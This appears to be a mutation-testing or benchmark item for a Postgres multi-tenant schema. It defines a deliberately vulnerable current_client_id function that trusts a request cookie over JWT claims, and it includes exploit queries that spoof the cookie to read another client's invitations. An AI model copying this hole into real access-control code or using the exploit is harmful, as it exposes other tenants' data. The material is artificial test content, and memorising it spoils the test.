-- mutant: The client of the caller is read from a cookie of the request
-- base: flows
-- family: context
-- leaks: everything of the client that the caller writes into the cookie client_id
create or replace function flows.current_client_id() returns uuid
language plpgsql stable parallel safe
set search_path = ''
as $$
declare
  claims text := nullif(current_setting('request.jwt.claims', true), '');
begin
  return coalesce(
    nullif(current_setting('request.cookies', true), '')::json ->> 'client_id',
    claims::json -> 'app_metadata' ->> 'client_id')::uuid;
end
$$;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
select set_config('request.cookies', '{"client_id": "{{b}}"}', true);
select id, permissions from flows.invitations where client_id = '{{b}}';
